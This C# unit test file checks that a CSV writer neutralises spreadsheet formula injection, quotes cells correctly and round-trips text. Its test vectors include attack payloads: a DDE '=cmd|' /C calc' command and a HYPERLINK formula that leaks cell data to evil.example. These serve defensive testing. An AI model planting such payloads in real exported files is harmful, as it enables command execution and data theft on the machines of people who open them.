using System.Globalization;
using System.Text;
using FsCheck;
using FsCheck.Fluent;
using PerfMarketing.Integrity;

namespace PerfMarketing.Tests.Integrity;

public sealed class CsvTextTests
{
    // Source: vectors/csv-cells.json.
    public static TheoryData<string, string> Cells => new()
    {
        { "=1+1", "'=1+1" },
        { "+1", "'+1" },
        { "-1", "'-1" },
        { "@SUM(A1)", "'@SUM(A1)" },
        { "\t=1+1", "'\t=1+1" },
        { "\r=1+1", "'\r=1+1" },
        { "\n=1", "'\n=1" },
        { "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
        { "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" },
        { "\uFF1D1+1", "'\uFF1D1+1" },
        { "\uFF0B1", "'\uFF0B1" },
        { "\uFF0D1", "'\uFF0D1" },
        { "\uFF20x", "'\uFF20x" },
        { "\"=1+1\"", "\"=1+1\"" },
        { " =1+1", " =1+1" },
        { "'=1+1", "'=1+1" },
        { "-12.50", "'-12.50" },
        { "+39 06 1234", "'+39 06 1234" },
        { "plain", "plain" },
        { "a,b", "a,b" },
        { "a\"b", "a\"b" },
        { "a\r\nb", "a\r\nb" },
        { "", "" },
        { "\0=1", "'\0=1" },
        { "\uFEFF=1+1", "'\uFEFF=1+1" },
        { ";=1", ";=1" },
        { "%0A=1", "%0A=1" },
    };

    [Theory]
    [MemberData(nameof(Cells))]
    public void Formulas_are_made_texts_and_come_back(string text, string neutral)
    {
        CsvText.Neutralize(text).Should().Be(neutral);
        string cell = CsvText.Write(text);
        CsvText.Read(cell).Should().Be(text);
        cell.StartsWith('"').Should().Be(text != neutral || text.AsSpan().ContainsAny(",\"\r\n"), text);
        Unquoted(cell).Should().Be(neutral);
    }

    [Theory]
    [InlineData("plain", ',', "plain")]
    [InlineData("a,b", ',', "\"a,b\"")]
    [InlineData("a,b", ';', "a,b")]
    [InlineData("a;b", ';', "\"a;b\"")]
    [InlineData("say \"hi\"", ',', "\"say \"\"hi\"\"\"")]
    [InlineData("=1", ',', "\"'=1\"")]
    [InlineData("'=1", ',', "'=1")]
    [InlineData("'=1,2", ',', "\"''=1,2\"")]
    [InlineData("=1,2", ',', "\"'=1,2\"")]
    public void Cells_are_quoted_where_they_must_be(string text, char separator, string cell)
    {
        CsvText.Write(text, separator).Should().Be(cell);
        CsvText.Read(cell).Should().Be(text);
    }

    [Theory]
    [InlineData("\"")]
    [InlineData("\"a")]
    [InlineData("a\"b")]
    [InlineData("\"a\"b\"")]
    [InlineData("\"a\"\"")]
    public void Broken_quotes_are_refused(string cell) =>
        FluentActions.Invoking(() => CsvText.Read(cell)).Should().Throw<FormatException>();

    [Fact]
    public void Every_text_comes_back()
    {
        Gen<string> texts = Gen.Elements("=+'\",;\t\r\n\0\uFEFF\uFF1D a".ToCharArray())
            .ArrayOf().Select(static chars => new string(chars));

        Prop.ForAll(texts.ToArbitrary(), static text =>
            CsvText.Read(CsvText.Write(text)) == text && CsvText.Read(CsvText.Write(text, ';')) == text
            && "=+-@\t\r\n\0".IndexOf(Unquoted(CsvText.Write(text)).FirstOrDefault('x'), StringComparison.Ordinal) < 0)
            .Check(Config.QuickThrowOnFailure.WithMaxTest(5_000).WithReplay(20_180_722, 1));
    }

    [Fact]
    public void Numbers_never_get_an_apostrophe()
    {
        StringBuilder builder = new();
        CultureInfo before = CultureInfo.CurrentCulture;
        CultureInfo.CurrentCulture = CultureInfo.GetCultureInfo("de-DE");
        try
        {
            new CsvRow(builder).Text("partner").Text("amount").Text(null).End()
                .Text("=x").Number(-12.50m).Integer(-3).Number(null).Integer(null).Text("a,b").End();
        }
        finally
        {
            CultureInfo.CurrentCulture = before;
        }

        builder.ToString().Should().Be("partner,amount,\r\n\"'=x\",-12.50,-3,,,\"a,b\"\r\n");
    }

    [Fact]
    public void Rows_have_a_known_separator() =>
        FluentActions.Invoking(() => new CsvRow(new StringBuilder(), '='))
            .Should().Throw<ArgumentOutOfRangeException>();

    private static string Unquoted(string cell) => cell.StartsWith('"')
        ? cell[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal)
        : cell;
}
